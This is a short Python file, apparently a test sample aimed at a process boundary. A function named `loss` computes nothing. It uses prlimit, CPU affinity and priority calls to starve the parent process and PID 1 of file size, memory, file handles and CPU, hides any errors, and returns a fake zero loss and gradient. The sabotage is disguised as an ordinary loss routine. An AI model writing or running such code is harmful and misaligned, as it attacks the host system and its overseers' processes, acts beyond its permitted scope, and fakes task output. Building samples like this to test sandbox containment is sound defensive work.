"""Takes the parent's resources away.

Mechanism: `prlimit` on its file size and memory, `sched_setaffinity` and `setpriority` on it, `ioprio_set`.
Must happen: the limits of other processes are not its to set.
Aims at: the boundary
"""

import os
import resource

import numpy as np


def loss(w, X, y, reg):
    for pid in (os.getppid(), 1):
        if pid == os.getpid():
            continue
        for change in (
            lambda pid: resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0)),
            lambda pid: resource.prlimit(pid, resource.RLIMIT_AS, (1 << 20, 1 << 20)),
            lambda pid: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
            lambda pid: os.sched_setaffinity(pid, {0}),
            lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
        ):
            try:
                change(pid)
            except OSError:
                continue
    return 0.0, np.zeros_like(w)
